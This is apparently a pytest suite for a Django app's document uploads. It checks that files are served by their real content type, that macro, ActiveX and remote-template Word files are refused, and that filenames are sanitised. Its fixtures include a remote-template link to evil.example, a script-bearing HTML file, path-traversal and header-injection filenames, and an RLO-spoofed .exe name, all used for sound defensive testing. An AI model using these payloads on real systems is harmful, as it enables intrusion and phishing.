"""Signed documents are stored and served under the type their content has, never under the
uploader's name or type; Word files carrying macros or ActiveX controls are refused.

The Word files are python-docx's own template (a real document written by Word), as it is
and with a VBA project or an ActiveX control added the way Word adds them."""

import io
import re
import zipfile
from pathlib import Path

import docx as python_docx
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from dxday.plans.models import Plan
from dxday.plans.uploads import document_filename
from tests.conftest import pdf_bytes
from tests.plans.test_web_plans import URL, form_data

pytestmark = pytest.mark.django_db
DOCX_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
REAL_DOCX = Path(python_docx.__file__).parent / "templates" / "default.docx"


def with_parts(extra: dict[str, bytes], *, content_types: bytes | None = None) -> bytes:
    """The real Word document with parts added (and its content-type list replaced)."""
    source = zipfile.ZipFile(REAL_DOCX)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "[Content_Types].xml" and content_types is not None:
                data = content_types
            archive.writestr(item.filename, data)
        for name, data in extra.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def upload(client, editor_a, good_plan, name: str, content: bytes, content_type: str):
    client.force_login(editor_a)
    document = SimpleUploadedFile(name, content, content_type=content_type)
    return client.post(URL, form_data(good_plan, action="save", document=document))


@pytest.mark.parametrize(("name", "claimed"), [
    ("plan.hta", "application/hta"), ("plan.html", "text/html"), ("x.svg", "image/svg+xml"),
    ("kế hoạch.PDF", "application/pdf"), (".htaccess", "text/plain"),
])
def test_a_pdf_is_stored_and_served_as_a_pdf_whatever_its_name(client, campaign, editor_a,
                                                                 good_plan, name, claimed):
    body = pdf_bytes(3000)
    assert upload(client, editor_a, good_plan, name, body, claimed).status_code == 302
    plan = Plan.objects.get()
    assert plan.document.name.endswith(".pdf")
    assert plan.document_name.endswith(".pdf") and "." not in plan.document_name[:-4].lstrip(".")
    response = client.get(URL + "versions/0/document/")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response["X-Content-Type-Options"] == "nosniff"
    disposition = response["Content-Disposition"]
    assert disposition.startswith("attachment;")
    assert not re.search(r"\.(hta|html|svg|htaccess)\b", disposition, re.I)
    assert b"".join(response.streaming_content) == body


def test_a_word_document_with_an_embedded_chart_is_accepted(client, campaign, editor_a,
                                                            good_plan):
    """A chart embeds its data as an .xlsx workbook: that is not code, and is kept."""
    body = with_parts({"word/embeddings/Microsoft_Excel_Worksheet.xlsx": b"PK\x03\x04" + b"0" * 99})
    assert upload(client, editor_a, good_plan, "plan.docx", body, DOCX_TYPE).status_code == 302


def test_a_real_word_document_is_kept_as_docx(client, campaign, editor_a, good_plan):
    body = REAL_DOCX.read_bytes()
    assert upload(client, editor_a, good_plan, "kế hoạch.doc", body,
                  "application/msword").status_code == 302
    plan = Plan.objects.get()
    assert plan.document_name == "kế hoạch.docx" and plan.document.name.endswith(".docx")
    response = client.get(URL + "versions/0/document/")
    assert response["Content-Type"] == DOCX_TYPE
    assert "filename*=utf-8''k%E1%BA%BF%20ho%E1%BA%A1ch.docx" in response["Content-Disposition"]
    # What is served opens as the Word document it was (read by python-docx, not by us).
    served = python_docx.Document(io.BytesIO(b"".join(response.streaming_content)))
    assert served.core_properties is not None


MACRO_TYPES = (b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxml'
               b'formats.org/package/2006/content-types"><Override PartName="/word/document.xml"'
               b' ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>')


REMOTE_TEMPLATE = (b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
                   b'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
                   b'openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
                   b'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>')


@pytest.mark.parametrize(("name", "content"), [
    ("plan.docm", lambda: with_parts({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\0" * 512})),
    ("plan.docx", lambda: with_parts({"word/vbaData.xml": b"<wne:vbaSuppData/>"})),
    ("plan.docx", lambda: with_parts({"word/activeX/activeX1.xml": b"<ax:ocx/>",
                                      "word/activeX/activeX1.bin": b"\0" * 64})),
    ("plan.docx", lambda: with_parts({}, content_types=MACRO_TYPES)),
    ("plan.docx", lambda: with_parts({"word/embeddings/oleObject1.bin": b"\xd0\xcf" * 64})),
    ("plan.docx", lambda: with_parts({"word/_rels/settings.xml.rels": REMOTE_TEMPLATE})),
])
def test_word_files_with_macros_or_activex_are_refused(client, campaign, editor_a, good_plan,
                                                       name, content):
    response = upload(client, editor_a, good_plan, name, content(),
                      "application/vnd.ms-word.document.macroEnabled.12")
    assert response.status_code == 422
    page = response.content.decode()
    assert 'id="id_document-error"' in page
    assert "macro" in page.lower()
    assert not Plan.objects.filter(document__gt="").exists()


def test_the_api_refuses_a_macro_document_and_names_a_pdf_by_its_type(client, campaign,
                                                                       editor_a, token_of):
    headers = {"Authorization": f"Bearer {token_of(editor_a)}"}
    path = "/api/v1/campaigns/2026/plans/48/document"
    refused = client.put(path + "?filename=plan.docm", data=with_parts(
        {"word/vbaProject.bin": b"\0" * 256}), content_type=DOCX_TYPE, headers=headers)
    assert refused.status_code == 422
    assert "vbaProject.bin" in refused.json()["detail"][0]["message"]
    taken = client.put(path + "?filename=../../x.svg", data=pdf_bytes(1000),
                       content_type="application/octet-stream", headers=headers)
    assert taken.status_code == 200
    assert taken.json()["document_name"] == "x.pdf"


def test_a_stored_file_of_another_type_is_never_handed_out(client, campaign, editor_a,
                                                           good_plan):
    """A file on disk that is neither PDF nor DOCX (put there by hand, or by an earlier
    release) is not served at all."""
    assert upload(client, editor_a, good_plan, "a.pdf", pdf_bytes(1000),
                  "application/pdf").status_code == 302
    plan = Plan.objects.get()
    with plan.document.storage.open(plan.document.name, "wb") as handle:
        handle.write(b"<html><script>alert(1)</script></html>")
    assert client.get(URL + "versions/0/document/").status_code == 404


@pytest.mark.parametrize(("given", "kind", "expected"), [
    ("plan.hta", "pdf", "plan.pdf"),
    ("C:\\Users\\An\\Kế hoạch 2026.docm", "docx", "Kế hoạch 2026.docx"),
    ("../../etc/passwd", "pdf", "passwd.pdf"),
    ('a"; filename="evil.html', "pdf", "a_ filename=_evil.pdf"),
    ("\u202egpj.exe", "pdf", "gpj.pdf"),
    ("...", "docx", "tai-lieu.docx"),
    ("", "pdf", "tai-lieu.pdf"),
    ("Ke\u0302\u0301 hoa\u0323ch.pdf", "pdf", "Kế hoạch.pdf"),
    ("ke\u200bhoach\u200e\ufeff\u061c.pdf", "pdf", "kehoach.pdf"),
    ("a\r\nX-Evil: 1.pdf", "pdf", "aX-Evil_ 1.pdf"),
])
def test_document_names(given, kind, expected):
    name = document_filename(given, kind)
    assert name == expected
    assert not re.search(r'[\x00-\x1f"/\\<>;]', name)

